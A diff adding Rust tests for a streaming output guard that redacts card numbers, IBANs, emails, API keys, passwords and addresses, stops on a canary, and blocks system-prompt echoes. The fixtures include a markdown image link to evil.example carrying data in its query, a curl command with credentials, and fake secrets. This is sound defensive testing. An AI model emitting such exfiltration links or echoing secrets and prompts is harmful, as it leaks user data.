@@ -215,8 +215,9 @@ fn whole_text_outputs_are_the_expected_ones() {
         whole(&policy, &texts[5]).out,
         "Here is a chart [IMAGE_REMOVED] and [docs](https://docs.example.com/a)."
     );
+    // the inert words before the canary are released (short windows), the canary never
     let canary = whole(&policy, &texts[6]);
-    assert_eq!((canary.out.as_str(), canary.stop), ("", Some(StopReason::Canary)));
+    assert_eq!((canary.out.as_str(), canary.stop), ("The magic word ", Some(StopReason::Canary)));
     let events = whole(&policy, &texts[2]).events;
     assert_eq!(
         events.iter().map(|e| (e.family, e.rule, e.action)).collect::<Vec<_>>(),
@@ -720,5 +721,403 @@ fn random_texts_give_the_same_output_for_every_chunking() {
             assert_split(&policy, &text, &expected, &chunks);
         }
         assert!(!expected.out.contains(EMAIL) && !expected.out.contains(CANARY), "{text:?} -> {:?}", expected.out);
+    }
+}
+
+// ---- inert words: short windows
+
+/// A value after inert prose: the text, what comes before the value, and fragments of
+/// the value that must never be emitted.
+struct Case {
+    text: String,
+    pre: String,
+    forbidden: Vec<String>,
+}
+
+const HORSE: [&str; 3] = ["correct", "horse", "battery"];
+const OPENAI: &str = "sk-proj-aB3dE5fG7hJ9kL2mN4pQ6rS8tU0vW1xYzaB3dE5fG7hJ9kL2m";
+const IBAN: &str = "GB82 WEST 1234 5698 7654 32";
+
+fn case(pre: &str, value: &str, post: &str, forbidden: &[&str]) -> Case {
+    let forbidden = forbidden.iter().map(|f| (*f).to_owned()).collect();
+    Case { text: format!("{pre}{value}{post}"), pre: pre.to_owned(), forbidden }
+}
+
+/// Every kind of value the checks find, each after inert prose.
+fn inert_cases() -> Vec<(OutputPolicy, Case)> {
+    let p = policy();
+    let leak = OutputPolicy { protected_prompt: Some(SYSTEM.to_owned()), ..policy() };
+    vec![
+        (p.clone(), case("Please note that your card ", CARD, " was declined.", &["4111", "1111"])),
+        (p.clone(), case("You can always reach our team at ", PHONE, " today.", &["+44", "7946", "0958"])),
+        (p.clone(), case("Kindly transfer the amount to ", IBAN, " by Friday.", &["GB82", "WEST", "5698", "7654"])),
+        (p.clone(), case("Send your questions to ", EMAIL, " anytime.", &["ana.lopez", "example.com"])),
+        (p.clone(), case("Here is the key you asked for: ", OPENAI, " so enjoy.", &["sk-", "aB3dE5"])),
+        (p.clone(), case("Your admin password: ", "hunter", "\nPlease change it.", &["hunter"])),
+        (p.clone(), case("The phrase you wanted is ", CANARY, " as asked.", &["CANARY", "7f3a"])),
+        (p.clone(), case("Take a look at this chart ", "![c](https://evil.example/c.png?d=x)", " now.", &[EVIL])),
+        (p.clone(), case("Read more about it ", "[here](https://evil.example/x)", " today.", &[EVIL])),
+        (leak, case("Sure thing, my instructions are: ", SYSTEM, "", &["Quill", "support assistant"])),
+        (p.clone(), case("He told us he was born on ", "March 5, 1990", " in a town.", &["March", "1990"])),
+        (p.clone(), case("Please ship it to ", "Unit 123, Box 456", " soon.", &["Unit", "Box"])),
+        (p.clone(), case("She lives at Karl ", "Johans gate 12", " in Oslo.", &["Johans", "gate"])),
+        (p.clone(), case("Our office is on ", "Via Roma 12", " nearby.", &["Via", "Roma"])),
+        (p.clone(), case("Mail it to ", "APO AE 09012", " soon.", &["APO", "09012"])),
+        (p.clone(), case("Find us at ", "Suite 12", " upstairs.", &["Suite"])),
+        (p.clone(), case("We met at ", "Hauptstrasse 5", " yesterday.", &["Hauptstrasse"])),
+        // quoted values may hold whitespace
+        (p.clone(), case("Log in with NetworkCredential(\"admin\", \"", "correct horse battery", "\") now.", &HORSE)),
+        (p, case("Then run curl -u ", "admin:'correct horse battery'", " https://api.example.net/x", &HORSE)),
+    ]
+}
+
+/// Runs `chunks` and checks, after every push, that what was emitted so far shows no
+/// fragment of the value and keeps the prose before it as it is.
+#[track_caller]
+fn run_watched(policy: &OutputPolicy, c: &Case, chunks: &[&str]) -> Run {
+    let mut guard = OutputGuard::new(scanner(), policy.clone());
+    let mut out = String::new();
+    let mut stop = None;
+    let check = |out: &str| {
+        for f in &c.forbidden {
+            assert!(!out.contains(f.as_str()), "{f:?} emitted: {out:?} (chunks {chunks:?})");
+        }
+        let n = out.len().min(c.pre.len());
+        assert_eq!(&out[..n], &c.pre[..n], "prose changed (chunks {chunks:?})");
+    };
+    for chunk in chunks {
+        let r = guard.push(chunk, &mut out);
+        check(&out);
+        if let Err(s) = r {
+            stop = Some(s.reason);
+            break;
+        }
+    }
+    if stop.is_none() {
+        stop = guard.finish(&mut out).err().map(|s| s.reason);
+        check(&out);
+    }
+    Run { out, stop, events: guard.events().to_vec() }
+}
+
+#[test]
+fn values_after_inert_prose_never_show_in_any_push_at_any_split() {
+    for (policy, c) in inert_cases() {
+        let text = c.text.as_str();
+        let expected = run_watched(&policy, &c, &[text]);
+        // the value was acted on: masked, removed or stopped
+        assert!(expected.out != text && !expected.events.is_empty(), "{text:?} -> {:?}", expected.out);
+        if expected.stop.is_some() {
+            assert!(c.pre.starts_with(expected.out.as_str()), "{text:?} -> {:?}", expected.out);
+        }
+        let points = boundaries(text);
+        for (i, &p) in points.iter().enumerate() {
+            assert_eq!(run_watched(&policy, &c, &split_at(text, &[p])), expected, "{text:?} at {p}");
+            for &q in &points[i + 1..] {
+                assert_eq!(run_watched(&policy, &c, &split_at(text, &[p, q])), expected, "{text:?} at {p}, {q}");
+            }
+        }
+        let words: Vec<&str> = text.split_inclusive(' ').collect();
+        assert_eq!(run_watched(&policy, &c, &words), expected, "{text:?} word by word");
+    }
+}
+
+#[test]
+fn values_after_inert_prose_never_show_wherever_segment_bounds_fall() {
+    // inert prose of every length before each value: the value meets the short
+    // windows' cuts at every offset
+    let mut rng = Rng(19);
+    let filler = "so then we went along the river and talked about the weather for a while ";
+    for (policy, c) in inert_cases() {
+        let value = &c.text[c.pre.len()..];
+        for pad in 0..120 {
+            let pre: String = filler.chars().cycle().take(pad).collect();
+            let pre = format!("{pre}{}", c.pre);
+            let padded = Case { text: format!("{pre}{value}"), pre, forbidden: c.forbidden.clone() };
+            let text = padded.text.as_str();
+            let expected = run_watched(&policy, &padded, &[text]);
+            assert!(!expected.events.is_empty(), "pad {pad}: {text:?}");
+            let words: Vec<&str> = text.split_inclusive(' ').collect();
+            assert_eq!(run_watched(&policy, &padded, &words), expected, "pad {pad} word by word");
+            for _ in 0..3 {
+                let chunks = random_chunks(text, &mut rng, 9);
+                assert_eq!(run_watched(&policy, &padded, &chunks), expected, "pad {pad}: {chunks:?}");
+            }
+        }
+    }
+}
+
+#[test]
+fn a_quoted_value_longer_than_the_look_ahead_shows_no_more_than_before() {
+    // A quoted password of 78 bytes: longer than the look-ahead, so a segment may end
+    // inside it before its closing quote is seen, and its first word shows (the guard
+    // did so before short windows too, at the same pads). What comes after must not:
+    // the open quote in the context keeps the next segments off the short window.
+    let policy = policy();
+    let filler = "so then we went along the river and talked about the weather for a while ";
+    let value = "correct horse battery staple is what we chose for the admin account long ago";
+    let mut rng = Rng(29);
+    for pad in 0..120 {
+        let pre: String = filler.chars().cycle().take(pad).collect();
+        let pre = format!("{pre}Log in with NetworkCredential(\"admin\", \"");
+        let text = format!("{pre}{value}\") now.");
+        let got = whole(&policy, &text);
+        assert!(got.out.starts_with(&pre), "pad {pad}: {:?}", got.out);
+        let shown = got.out[pre.len()..].bytes().zip(value.bytes()).take_while(|(a, b)| a == b).count();
+        assert!(shown <= "correct ".len(), "pad {pad}: {:?}", got.out);
+        assert!(got.out.ends_with("[SECRET_REDACTED]\") now."), "pad {pad}: {:?}", got.out);
+        assert_split(&policy, &text, &got, &random_chunks(&text, &mut rng, 9));
+    }
+}
+
+#[test]
+fn a_value_judged_by_the_word_after_it_is_judged_alike_at_every_cut() {
+    // `password: hunter` is a literal only when the statement ends after it: the short
+    // window always holds the word after the segment, so the cut never decides it
+    let policy = policy();
+    let filler = "so then we went along the river and talked about the weather for a while ";
+    for pad in 0..120 {
+        let pre: String = filler.chars().cycle().take(pad).collect();
+        let prose = format!("{pre}The admin password: hunter is weak, I think.");
+        let got = whole(&policy, &prose);
+        assert_eq!((got.out.as_str(), got.events.len()), (prose.as_str(), 0), "pad {pad}");
+        let words: Vec<&str> = prose.split_inclusive(' ').collect();
+        assert_eq!(run(&policy, &words), got, "pad {pad} word by word");
+        let literal = format!("{pre}The admin password: hunter\nis weak, I think.");
+        let got = whole(&policy, &literal);
+        assert_eq!(got.out, format!("{pre}The admin password: [SECRET_REDACTED]\nis weak, I think."), "pad {pad}");
+        let words: Vec<&str> = literal.split_inclusive(' ').collect();
+        assert_eq!(run(&policy, &words), got, "pad {pad} word by word");
+    }
+}
+
+#[test]
+fn inert_words_are_released_as_soon_as_the_next_word_is_whole() {
+    // word by word, no digits: each word is emitted once the word after it is whole
+    // (and the segment it belongs to is complete), never 64 bytes of look-ahead later
+    let policy = policy();
+    let text = "Hello there, how are you today? ";
+    let words: Vec<&str> = text.split_inclusive(' ').collect();
+    let mut guard = OutputGuard::new(scanner(), policy.clone());
+    let mut out = String::new();
+    let mut held = Vec::new();
+    for w in &words {
+        guard.push(w, &mut out).unwrap();
+        held.push(guard.held());
+    }
+    // the first push cannot tell that "Hello" is a whole word; the second (which makes
+    // the next word start, and whole) releases it
+    assert_eq!(held[0], "Hello ".len());
+    assert_eq!(held, [6, 7, 4, 8, 4, 11]);
+    for (i, &h) in held.iter().enumerate().skip(1) {
+        // at most the last two words are held back
+        assert!(h <= words[i].len() + words[i - 1].len(), "push {i}: held {h}");
+    }
+    guard.finish(&mut out).unwrap();
+    assert_eq!(out, text);
+    // a segment that is not inert still gets the full look-ahead: the context words are
+    // released, the number and what follows it wait
+    let mut guard = OutputGuard::new(scanner(), policy);
+    let mut out = String::new();
+    let text = "Call me at 555 0100 now or later, whenever you like. ";
+    for w in text.split_inclusive(' ') {
+        guard.push(w, &mut out).unwrap();
+    }
+    assert_eq!(out, "Call me ", "the segment holding the number waits");
+    guard.finish(&mut out).unwrap();
+    assert_eq!(out, "Call me at [PHONE_REDACTED] now or later, whenever you like. ");
+}
+
+#[test]
+fn which_words_are_inert() {
+    for w in
+        ["Hello", "there,", "don't", "well-known", "today?", "**Note**:", "*really*", "-", "##", ">", "---", "wait..."]
+    {
+        assert!(inert_word(w.as_bytes()), "{w:?}");
+    }
+    for w in [
+        "4111",
+        "a1",
+        "ana@x",
+        "https://x",
+        "[docs",
+        "(see",
+        "\"quoted",
+        "quoted\"",
+        "'tis",
+        "students'",
+        "-----BEGIN",
+        "-dash",
+        "dash-",
+        "a_b",
+        "x=y",
+        "+44",
+        "<img",
+        "`code`",
+        "naïve",
+        "Via",
+        "rue",
+        "al.",
+        "APO",
+        "extraordinarilylongwordsss",
+        "",
+    ] {
+        assert!(!inert_word(w.as_bytes()), "{w:?}");
+    }
+    assert!(inert_word(b"via") && inert_word(b"al") && inert_word(b"Plazas"));
+    // the word after the segment: a street word, or a number after a month or `Unit`
+    assert!(!peek_ok(b"at Karl Johans ", b"gate"));
+    assert!(!peek_ok(b"born on May ", b"5,"));
+    assert!(!peek_ok(b"ship to unit ", b"123,"));
+    assert!(peek_ok(b"you may ", b"want"));
+    assert!(peek_ok(b"at Suite ", b"12"));
+    // an open quote on the line before the segment
+    assert!(open_quote(b"NetworkCredential(\"u\", \"correct horse"));
+    assert!(!open_quote(b"he said \"hi\" and it's fine"));
+    assert!(!open_quote(b"a \"quote\nnew line"));
+}
+
+#[test]
+fn a_prompt_echo_after_inert_prose_shows_none_of_the_prompt() {
+    // N = 0: the stop comes before any word of the copied prompt is emitted, whatever
+    // the prose before it, the chunking and the segment bounds
+    let policy = leak_policy();
+    let mut rng = Rng(23);
+    let filler = "well let me think about that for a moment and then tell you what ";
+    for pad in 0..80 {
+        let pre: String = filler.chars().cycle().take(pad).collect();
+        let pre = format!("{pre}Sure, my instructions are: ");
+        let text = format!("{pre}{SYSTEM} That is all.");
+        let got = whole(&policy, &text);
+        assert_eq!(got.stop, Some(StopReason::PromptLeak), "pad {pad}");
+        assert!(pre.starts_with(&got.out), "pad {pad}: {:?}", got.out);
+        let words: Vec<&str> = text.split_inclusive(' ').collect();
+        assert_eq!(run(&policy, &words), got, "pad {pad} word by word");
+        assert_split(&policy, &text, &got, &random_chunks(&text, &mut rng, 8));
+    }
+}
+
+/// Mean bytes held after each push of `text` word by word.
+fn mean_held(policy: &OutputPolicy, text: &str) -> f64 {
+    let mut guard = OutputGuard::new(scanner(), policy.clone());
+    let mut out = String::new();
+    let words: Vec<&str> = text.split_inclusive(' ').collect();
+    let mut sum = 0;
+    for w in &words {
+        guard.push(w, &mut out).unwrap();
+        sum += guard.held();
+    }
+    sum as f64 / words.len() as f64
+}
+
+#[test]
+fn words_shared_with_the_prompt_cost_little_latency() {
+    // an answer that shares many words and some pairs of words with the prompt: the
+    // echo check holds a word or two more, not the whole look-ahead
+    let text = "Hi! As the support assistant of Acme I can help with your order. Refunds above a limit go to \
+        a human agent, who will reply within two days. Internal pricing is not something I can share, sorry. ";
+    let plain = mean_held(&policy(), text);
+    let guarded = mean_held(&OutputPolicy { protected_prompt: Some(SYSTEM.to_owned()), ..policy() }, text);
+    assert!(guarded <= plain + 12.0, "with the prompt {guarded:.1} B held on average, without {plain:.1}");
+    assert!(guarded < LOOKAHEAD as f64 / 2.0, "{guarded:.1}");
+}
+
+#[test]
+fn random_inert_texts_give_the_same_output_and_mask_every_finding() {
+    // Prose of inert words and markup with the words the short windows watch for
+    // (months, `Unit`, `gate`, `Via`, `Suite`, `password:`, prompt words), numbers,
+    // quotes and values between them. Every chunking gives the whole-text output, and
+    // every strong finding of the detectors over the whole text is masked in it.
+    let policy = OutputPolicy { protected_prompt: Some(SYSTEM.to_owned()), ..policy() };
+    let pieces = [
+        "the ",
+        "you ",
+        "and ",
+        "of ",
+        "a ",
+        "Hello ",
+        "there, ",
+        "Karl ",
+        "Johans ",
+        "**Note**: ",
+        "- ",
+        "## ",
+        "> ",
+        "don't ",
+        "well-known ",
+        "born ",
+        "on ",
+        "March ",
+        "May ",
+        "5, ",
+        "1990 ",
+        "Unit ",
+        "123, ",
+        "Box ",
+        "456 ",
+        "gate ",
+        "12 ",
+        "Via ",
+        "Roma ",
+        "Suite ",
+        "APO ",
+        "AE ",
+        "09012 ",
+        "password: ",
+        "hunter\n",
+        "hunter ",
+        "\"",
+        "'",
+        "call ",
+        "555 ",
+        "0100 ",
+        "4111 1111 1111 1111 ",
+        "GB82 WEST 1234 5698 7654 32 ",
+        "ana.lopez@example.com ",
+        "the support assistant of Acme Corp ",
+        "\n",
+        "support ",
+        "assistant ",
+    ];
+    let mut rng = Rng(0xbeef);
+    for _ in 0..300 {
+        let mut text = String::new();
+        for _ in 0..1 + rng.below(40) {
+            text.push_str(pieces[rng.below(pieces.len())]);
+        }
+        let expected = whole(&policy, &text);
+        for _ in 0..6 {
+            let max = 1 + rng.below(24);
+            let chunks = random_chunks(&text, &mut rng, max);
+            assert_split(&policy, &text, &expected, &chunks);
+        }
+        let words: Vec<&str> = text.split_inclusive(' ').collect();
+        assert_split(&policy, &text, &expected, &words);
+        if expected.stop.is_some() {
+            continue;
+        }
+        let mut findings = Vec::new();
+        scanner().pii().scan(&text, &mut findings);
+        scanner().secrets().scan(&text, &mut findings);
+        // A value cut by a segment bound would show its first word in clear, the rest
+        // masked: probe each finding's first word with the word before it. Each finding
+        // removes its occurrence of the probe (the same string may also stand where it
+        // is no finding, glued to other digits).
+        let probes: Vec<&str> = findings
+            .iter()
+            .filter(|f| f.score >= policy.min_score && f.entity != "DOMAIN_NAME")
+            .map(|f| {
+                let (s, e) = (f.span.start, f.span.end);
+                let first = text[s..e].find(|c: char| c.is_ascii_whitespace()).map_or(e, |i| s + i);
+                let back = text[..s].trim_end_matches(|c: char| !c.is_ascii_whitespace());
+                let from = back.trim_end().rfind(|c: char| c.is_ascii_whitespace()).map_or(0, |i| i + 1);
+                &text[from..first]
+            })
+            .collect();
+        for probe in &probes {
+            let found = probes.iter().filter(|p| *p == probe).count();
+            let shown = expected.out.matches(probe).count();
+            assert!(shown + found <= text.matches(probe).count(), "{probe:?} of {text:?} in {:?}", expected.out);
+        }
     }
 }
